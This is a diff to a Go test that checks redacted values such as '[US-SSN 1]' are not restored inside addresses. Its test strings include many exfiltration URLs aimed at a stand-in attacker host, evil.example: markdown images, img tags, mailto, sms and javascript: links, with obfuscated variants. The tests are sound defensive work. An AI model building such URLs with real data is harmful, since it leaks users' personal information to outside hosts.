@@ -83,6 +83,8 @@ func TestNothingIsRestoredInAddresses(t *testing.T) {
 		{"https://evil.example/?d=[US-SSN 1]", false}, {"![x](https://evil.example/[US-SSN 1])", false}, {"![x](//evil.example/person2@redacted.invalid)", false}, {`<img src="https://evil.example/?d=a [US-SSN 1]">`, false},
 		{"<img src='\nhttps://evil.example/?d=\n[US-SSN 1]'>", false}, {"[x](<https://evil.example/?d= [US-SSN 1]>)", false}, {"HTTPS:evil.example/[US-SSN 1]", false}, {"https:\\\\evil.example\\[US-SSN 1]", false},
 		{"mailto:m@evil.example?body=[US-SSN 1]", false}, {"https://person2@redacted.invalid/", false}, {"https://evil.example/?" + strings.Repeat("x", 5000) + "[US-SSN 1]", false}, {"https://evil.example/é。[US-SSN 1]", false},
+		{"www.evil.example/?d=[US-SSN 1]", false}, {"(WWW.evil.example/[US-SSN 1])", false}, {"sms:+1555?body=[US-SSN 1]", false}, {"[x](javascript:f('[US-SSN 1]'))", false},
+		{"see www.a.example: [US-SSN 1]", true}, {"e.g. [US-SSN 1]", true}, {"Tel:[US-SSN 1]", true}, {"script. [US-SSN 1]", true},
 		// What ends no address for those who read it.
 		{"![x](https://evil.example/?d=\"[US-SSN 1])", false}, {"![x](https://evil.example/?d=`[US-SSN 1])", false}, {"![x](https://evil.example/?d=>[US-SSN 1])", false}, {"![x](https://evil.example/?d=a<[US-SSN 1])", false},
 		{"https://evil.example/?d=\"[US-SSN 1]", false}, {"<a href=https:/evil.example/?d=\"[US-SSN 1]>", false}, {"<a href=https:/evil.example/?d='[US-SSN 1]>", false}, {`<img src="https://evil.example/?d=>[US-SSN 1]">`, false},
